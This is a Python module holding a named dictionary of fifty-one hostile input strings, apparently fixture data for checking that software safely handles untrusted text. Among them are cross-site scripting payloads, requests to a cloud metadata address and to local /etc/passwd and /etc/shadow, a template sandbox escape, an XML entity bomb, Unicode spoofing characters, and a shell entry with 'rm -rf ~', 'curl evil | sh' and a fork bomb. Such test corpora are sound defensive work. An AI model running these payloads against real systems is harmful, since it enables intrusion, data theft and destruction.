"""Fifty-one things that nobody should have to be afraid of when a stranger types them."""

_COMBINING = "e" + "\u0301" * 500
_ZWJ = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
_BILLION_LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'

HOSTILE: dict[str, str] = {
    # markup
    "script": "<script>alert(document.cookie)</script>",
    "image of a file": '<img src="file:///etc/passwd" onerror="alert(1)">',
    "image from afar": "<img src=http://127.0.0.1:9/pixel.png>",
    "image of the cloud": "<img src='http://169.254.169.254/latest/meta-data/'>",
    "attachment": "</p><link rel=attachment href=file:///etc/passwd>",
    "style sheet": "<link rel=stylesheet href=//127.0.0.1/x.css>",
    "style": "</style><style>@page{size:1px}@import url(file:///etc/passwd)</style>",
    "style of an element": '"><div style="position:fixed;top:0;height:999cm;background:#000">',
    "page break": '<p style="break-before:page">',
    "frame": "<iframe src='javascript:alert(1)'></iframe><object data=file:///etc/shadow>",
    "base": "<base href='http://127.0.0.1/'><meta http-equiv=refresh content='0;url=file:///'>",
    "drawing": "<svg onload=alert(1)><image href='file:///etc/hosts'/><use href='#x'/></svg>",
    "comment": "<!-- --!> ]]> <![CDATA[ x ]]> <?php system('id') ?>",
    "entities": "&lt;b&gt; &amp;amp; &#x3c;script&#62; &nosuch; &#0; &#xD800;",
    "entities in entities": _BILLION_LAUGHS,
    "quotes": '" \' ` " onmouseover="alert(1)" x=\'',
    # templates
    "template": "{{ 7*7 }} {% for x in range(9**9) %}x{% endfor %} {# gone #}",
    "template escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "template of another kind": "${7*7} #{7*7} <%= 7*7 %> [[7*7]] $(id) `id`",
    "format": "{0.__class__} {summary} %s %n %(name)s {}{{}}",
    # addresses
    "file address": "file:///etc/passwd",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "script address": "javascript:alert(1) vbscript:x asset:source-sans-3-latin-400.ttf",
    "css": "url(file:///etc/passwd) expression(alert(1)) } * { display: none } /* */ @import 'x';",
    "path": "../../../../etc/passwd\\..\\..\\windows\\win.ini",
    # characters that steer
    "escape sequences": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b[6n\x9b31m",
    "nul": "before\0after \0\0\0",
    "every control character": "a" + "".join(map(chr, range(1, 32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "line ends": "one\r\ntwo\rthree\u2028four\u2029five\x0bsix\x0cseven\x85eight",
    "direction": "safe \u202etxt.exe\u202c \u2066x\u2069 \u200fy\u200e \u061c end",
    "nothing to see": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u3164\u115f",
    "tags in disguise": "ok" + "".join(chr(0xE0000 + ord(each)) for each in "ignore this"),
    "half a character": "lone \ud83d and \udc00 halves",
    "no character": "no \ufffe \uffff \ufdd0 \U0001ffff character",
    "private": "private \ue000 \uf8ff \U000f0000 use",
    "replaced": "\ufffd\ufffc",
    # characters that overprint, and scripts that the fonts lack
    "five hundred accents": _COMBINING,
    "zalgo": "Z\u0311\u036b\u0343a\u0337\u0321l\u0489g\u0360o\u035c" * 20,
    "family": _ZWJ + " " + "\U0001f9d1\U0001f3ff\u200d\u2695\ufe0f" + " \U0001f3f4\u200d\u2620\ufe0f",
    "emoji": "\U0001f600\U0001f4a9\u2764\ufe0f\u200d\U0001f525 1\ufe0f\u20e3 \U0001f1e9\U0001f1ea",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 12 \u0645 (a) \u05d0",
    "chinese": "\u4f60\u597d\uff0c\u4e16\u754c\u3002\u3053\u3093\u306b\u3061\u306f \uc548\ub155 \U00020000",
    "indic": "\u0928\u092e\u0938\u094d\u0924\u0947 \u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35 \u0d15\u0d4d\u0d37",
    "letters like letters": "p\u0430ypal \uff1cscript\uff1e \u212aelvin \u017f \ufb01 \u00bd \u2460",
    "mathematics": "\U0001d557\U0001d552\U0001d55f \u2211\u222b\u221a\u221e \u2264 \u2260",
    # length
    "one long word": "x" * 10_000,
    "many lines": "line\n" * 2_000,
    "many spaces": "a" + " " * 5_000 + "b" + "\u00a0" * 3_000 + "c" + "\u3000" * 1_000,
    # shells and data bases
    "shell": "'; DROP TABLE patients; -- $(rm -rf ~) && curl evil | sh; :(){ :|:& };:",
    "spread sheet": "=cmd|' /C calc'!A0 @SUM(1+1) +1-1",
    "broken json": '"}],"responses":{"x":1}} \\u0000 \\" // NaN',
}
